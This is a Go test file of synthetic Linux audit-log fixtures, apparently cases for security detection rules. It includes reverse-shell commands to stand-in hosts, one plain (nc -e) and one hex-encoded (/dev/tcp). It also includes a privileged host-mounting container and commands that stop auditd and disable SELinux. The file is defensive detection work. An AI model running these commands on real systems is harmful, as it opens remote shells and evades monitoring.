package content_test

import (
	"fmt"
	"time"
)

// record is an audit record of a type.
func record(typ, rest string) []event {
	return logs("type=" + typ + " msg=audit(1795308881.123:456): " + rest)
}

// syscall is a system call with its program and key, and the file it names.
func syscall(number int, success, auid, uid, euid, exe, key, path string) []event {
	s := fmt.Sprintf(`arch=c000003e syscall=%d success=%s exit=0 a0=ffffff9c a1=55d0 a2=241 a3=1b6 items=1 ppid=4200 pid=4210 auid=%s uid=%s gid=0 euid=%s suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="x" exe="%s" subj=unconfined key="%s"`,
		number, success, auid, uid, euid, exe, key)
	if path != "" {
		s += ` type=CWD msg=audit(1795308881.123:456): cwd="/root" type=PATH msg=audit(1795308881.123:456): item=0 name="` + path + `" inode=917 dev=fd:00 mode=0100640 ouid=0 ogid=42 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0`
	}
	return record("SYSCALL", s)
}

// mode is a chmod (argument 1) or fchmodat (argument 2) with a new mode.
func mode(number int, exe, mode string) []event {
	a1, a2 := mode, "55d0"
	if number == 268 {
		a1, a2 = a2, a1
	}
	return record("SYSCALL", fmt.Sprintf(`arch=c000003e syscall=%d success=yes exit=0 a0=ffffff9c a1=%s a2=%s a3=0 items=1 ppid=4200 pid=4210 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="chmod" exe="%s" key=(null)`, number, a1, a2, exe))
}

// run is a program that was run, with its arguments.
func run(args ...string) []event {
	s := fmt.Sprintf("argc=%d", len(args))
	for i, a := range args {
		s += fmt.Sprintf(` a%d="%s"`, i, a)
	}
	return record("SYSCALL", `arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=4200 pid=4210 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="x" exe="/usr/bin/x" key="exec" type=EXECVE msg=audit(1795308881.123:456): `+s)
}

const unset = "4294967295"

func auditLogin(user, result string) []event {
	return record("USER_AUTH", `pid=4210 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication acct="`+user+`" exe="/usr/sbin/sshd" hostname=203.0.113.7 addr=203.0.113.7 terminal=ssh res=`+result+`'`)
}

func denied(auid string) []event {
	return syscall(257, "no", auid, "1000", "1000", "/usr/bin/cat", "access", "/srv/private")
}

var auditExamples = []example{
	eg(901000, record("CWD", `cwd="/root"`), logs(`type=CWD audit(1795308881.123:456): cwd="/root"`)),
	eg(901001, auditLogin("bob", "failed"), auditLogin("bob", "success")),
	{901002, [][]event{times(10, auditLogin("bob", "failed"))}, [][]event{times(9, auditLogin("bob", "failed")), then(times(9, auditLogin("bob", "failed")), auditLogin("ann", "failed"))}},
	eg(901003, record("ADD_USER", `pid=4210 uid=0 auid=1000 ses=3 msg='op=adding user id=1001 exe="/usr/sbin/useradd" hostname=web1 addr=? terminal=pts/0 res=success'`), record("ADD_USER", `pid=4210 uid=0 auid=1000 ses=3 msg='op=adding user id=1001 exe="/usr/sbin/useradd" hostname=web1 addr=? terminal=pts/0 res=failed'`)),
	eg(901004, then(record("DEL_USER", `pid=4210 uid=0 auid=1000 ses=3 msg='op=deleting user entry id=1001 exe="/usr/sbin/userdel" hostname=web1 addr=? terminal=pts/0 res=success'`), record("USER_CHAUTHTOK", `pid=4210 uid=0 auid=1000 ses=3 msg='op=PAM:chauthtok acct="bob" exe="/usr/bin/passwd" res=success'`)), auditLogin("bob", "success")),
	eg(901005, record("USER_LOGIN", `pid=4210 uid=0 auid=1000 ses=3 msg='op=login acct="bob" exe="/usr/sbin/sshd" hostname=203.0.113.7 addr=203.0.113.7 terminal=ssh res=success'`), auditLogin("bob", "success")),
	eg(901010, record("CONFIG_CHANGE", "audit_enabled=0 old=1 auid=1000 ses=3 res=1"), record("CONFIG_CHANGE", "audit_enabled=1 old=0 auid=1000 ses=3 res=1")),
	eg(901011, record("CONFIG_CHANGE", `auid=1000 ses=3 op=remove_rule key="identity" list=4 res=1`), record("CONFIG_CHANGE", `auid=1000 ses=3 op=add_rule key="identity" list=4 res=1`)),
	eg(901012, record("CONFIG_CHANGE", `auid=1000 ses=3 op=add_rule key="identity" list=4 res=1`), record("CONFIG_CHANGE", `auid=1000 ses=3 op=remove_rule key="identity" list=4 res=1`)),
	eg(901013, record("DAEMON_START", "op=start ver=3.1 format=enriched auid=4294967295 pid=612 uid=0 ses=4294967295 res=success"), record("DAEMON_ABORT", "op=terminate auid=0 pid=612 res=failed")),
	eg(901014, record("DAEMON_ABORT", "op=terminate auid=0 pid=612 res=failed"), record("DAEMON_END", "op=terminate auid=0 pid=1 res=success")),
	eg(901015, record("MAC_STATUS", "enforcing=0 old_enforcing=1 auid=1000 ses=3"), record("MAC_STATUS", "enforcing=1 old_enforcing=0 auid=1000 ses=3")),
	eg(901016, record("AVC", `avc:  denied  { read } for  pid=4210 comm="httpd" name="shadow" dev="dm-0" ino=917`), record("AVC", `avc:  granted  { read } for  pid=4210 comm="httpd"`)),
	eg(901017, record("ANOM_PROMISCUOUS", "dev=eth0 prom=256 old_prom=0 auid=1000 uid=0 gid=0 ses=3"), record("ANOM_PROMISCUOUS", "dev=eth0 prom=0 old_prom=256 auid=1000 uid=0 gid=0 ses=3")),
	eg(901018, record("ANOM_PROMISCUOUS", "dev=veth12ab prom=256 old_prom=0 auid=4294967295 uid=0 gid=0 ses=3"), record("ANOM_PROMISCUOUS", "dev=eth0 prom=256 old_prom=0 auid=1000 uid=0 gid=0 ses=3")),
	eg(901019, record("ANOM_ABEND", `auid=1000 uid=1000 gid=1000 ses=3 pid=4210 comm="php" exe="/usr/bin/php" sig=11 res=1`), record("ANOM_LINK", `op=follow_link ppid=1 pid=4210 auid=1000 exe="/usr/bin/php" res=0`)),
	eg(901020, record("ANOM_LOGIN_FAILURES", `pid=4210 uid=0 auid=4294967295 ses=4294967295 msg='op=pam_faillock suid=1000 exe="/usr/sbin/sshd" res=success'`), record("ANOM_ABEND", `auid=1000 pid=4210 comm="php" exe="/usr/bin/php" sig=11 res=1`)),
	eg(901030, syscall(313, "yes", "1000", "0", "0", "/usr/bin/kmod", "modules", ""), then(syscall(313, "no", "1000", "0", "0", "/usr/bin/kmod", "modules", ""), syscall(313, "yes", unset, "0", "0", "/usr/bin/kmod", "modules", ""))),
	eg(901031, syscall(313, "yes", unset, "0", "0", "/usr/lib/systemd/systemd-udevd", "modules", ""), syscall(313, "yes", "1000", "0", "0", "/usr/bin/kmod", "modules", "")),
	eg(901032, syscall(175, "yes", "1000", "0", "0", "/tmp/ins", "modules", ""), syscall(175, "yes", "1000", "0", "0", "/usr/bin/kmod", "modules", "")),
	eg(901033, syscall(176, "yes", "1000", "0", "0", "/usr/bin/kmod", "modules", ""), syscall(176, "no", "1000", "0", "0", "/usr/bin/kmod", "modules", "")),
	eg(901040, syscall(257, "yes", "1000", "0", "0", "/usr/bin/python3.12", "identity", "/etc/passwd"), then(syscall(257, "yes", "1000", "0", "0", "/usr/sbin/useradd", "identity", "/etc/passwd"), syscall(257, "no", "1000", "0", "0", "/usr/bin/tee", "identity", "/etc/passwd"))),
	eg(901041, syscall(257, "yes", "1000", "0", "0", "/usr/sbin/useradd", "identity", "/etc/passwd"), syscall(257, "yes", "1000", "0", "0", "/tmp/useradd2", "identity", "/etc/passwd")),
	eg(901042, syscall(257, "no", "1000", "1000", "1000", "/usr/bin/cat", "access", "/etc/shadow"), syscall(257, "no", "1000", "1000", "1000", "/usr/bin/cat", "access", "/etc/motd")),
	eg(901043, syscall(257, "yes", "1000", "0", "0", "/usr/bin/cat", "shadow", "/etc/shadow"), then(syscall(257, "yes", "1000", "0", "0", "/usr/bin/passwd", "shadow", "/etc/shadow"), syscall(257, "yes", "1000", "0", "0", "/usr/bin/cat", "x", "/etc/shadows"))),
	eg(901044, denied("1000"), syscall(257, "yes", "1000", "1000", "1000", "/usr/bin/cat", "access", "/srv/private")),
	{901045, [][]event{times(20, denied("1000"))}, [][]event{times(19, denied("1000")), then(times(19, denied("1000")), denied("1001")), slowly(4*time.Second, times(20, denied("1000")))}},
	eg(901046, syscall(257, "yes", "1000", "0", "0", "/usr/bin/vim", "actions", "/etc/sudoers.d/ops"), syscall(257, "yes", "1000", "0", "0", "/usr/bin/vim", "actions", "/etc/motd")),
	eg(901047, syscall(227, "yes", "1000", "0", "0", "/usr/bin/date", "time-change", ""), syscall(227, "no", "1000", "0", "0", "/usr/bin/date", "time-change", "")),
	eg(901049, syscall(159, "yes", unset, "998", "998", "/usr/sbin/chronyd", "time-change", ""), syscall(159, "yes", "1000", "0", "0", "/usr/bin/chronyds", "time-change", "")),
	eg(901048, syscall(87, "yes", "1000", "0", "0", "/usr/bin/rm", "x", "/var/log/auth.log"), then(syscall(87, "yes", unset, "0", "0", "/usr/sbin/logrotate", "x", "/var/log/auth.log"), syscall(87, "yes", "1000", "0", "0", "/usr/bin/rm", "x", "/var/log/auth.log.4.gz"))),
	eg(901060, mode(90, "/usr/bin/chmod", "9ed"), then(mode(90, "/usr/bin/chmod", "1ed"), mode(90, "/usr/bin/dpkg", "9ed"))),
	eg(901061, mode(268, "/usr/bin/chmod", "9ed"), then(mode(268, "/usr/bin/chmod", "1ed"), mode(268, "/usr/bin/rpm", "9ed"))),
	eg(901062, syscall(59, "yes", "1000", "1000", "0", "/usr/local/bin/x", "exec", ""), then(syscall(59, "yes", "1000", "1000", "0", "/usr/bin/sudo", "exec", ""), syscall(59, "yes", "1000", "1000", "1000", "/usr/local/bin/x", "exec", ""))),
	eg(901063, syscall(101, "yes", "1000", "1000", "1000", "/usr/bin/gdb", "code-injection", ""), syscall(101, "yes", "1000", "1000", "1000", "/usr/bin/gdb", "other", "")),
	eg(901064, syscall(165, "yes", "1000", "0", "0", "/usr/bin/mount", "export", ""), syscall(165, "no", "1000", "0", "0", "/usr/bin/mount", "export", "")),
	eg(901070, logs(`type=SYSCALL msg=audit(1795308881.123:456): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=900 pid=4210 auid=4294967295 uid=998 gid=998 euid=998 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/dash" key=(null)`+"\x1d"+`ARCH=x86_64 SYSCALL=execve AUID="unset" UID="nginx"`),
		logs(`type=SYSCALL msg=audit(1795308881.123:456): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=900 pid=4210 auid=4294967295 uid=990 gid=990 euid=990 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/dash" key="exec" ARCH=x86_64 SYSCALL=execve AUID="unset" UID="munin"`,
			`type=SYSCALL msg=audit(1795308881.123:456): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=900 pid=4210 auid=4294967295 uid=998 gid=998 euid=998 tty=(none) ses=4294967295 comm="gzip" exe="/usr/bin/gzip" key="exec" ARCH=x86_64 SYSCALL=execve AUID="unset" UID="nginx"`)),
	eg(901071, syscall(59, "yes", unset, "33", "33", "/usr/bin/dash", "exec", ""), then(syscall(59, "yes", unset, "33", "33", "/usr/bin/php", "exec", ""), syscall(59, "yes", "1000", "33", "33", "/usr/bin/bash", "exec", ""))),
	eg(901072, syscall(59, "yes", "1000", "1000", "1000", "/dev/shm/a", "exec", ""), syscall(59, "yes", "1000", "1000", "1000", "/opt/tmp/a", "exec", "")),
	eg(901073, then(run("nc", "-e", "/bin/sh", "203.0.113.9", "4444"), record("EXECVE", `argc=3 a0="bash" a1="-c" a2=62617368202D69203E26202F6465762F7463702F312E322E332E342F34343434`)), run("sh", "-c", "id")),
	eg(901074, then(run("docker", "run", "--privileged", "alpine"), run("/usr/bin/podman", "run", "-v", "/:/host", "alpine")), run("docker", "run", "-v", "/srv:/srv", "alpine")),
	eg(901075, then(run("nmap", "10.1.0.0/24"), run("/usr/bin/whoami")), run("nmapper")),
	eg(901076, then(run("systemctl", "stop", "auditd"), run("setenforce", "0"), run("auditctl", "-D")), then(run("systemctl", "restart", "auditd"), run("systemctl", "stop", "nginx"))),
}
